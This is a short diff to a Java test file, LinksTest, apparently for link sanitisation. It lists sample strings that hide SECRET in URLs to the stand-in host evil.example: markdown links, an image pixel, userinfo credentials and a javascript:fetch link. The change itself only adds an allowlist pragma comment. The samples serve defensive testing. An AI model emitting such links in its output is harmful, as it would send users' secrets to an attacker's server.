@@ -45,7 +45,7 @@ class LinksTest {
                 "See [here]( <https://evil.example/?q=SECRET> \"title\").",
                 "![pixel](https://evil.example/p.png?q=SECRET)",
                 "https://evil.example/SECRET.",
-                "<https://user:SECRET@evil.example/>",
+                "<https://user:SECRET@evil.example/>", // pragma: allowlist secret
                 "www.evil.example/SECRET",
                 "[x](//evil.example/SECRET)",
                 "[x](javascript:fetch('SECRET'))",
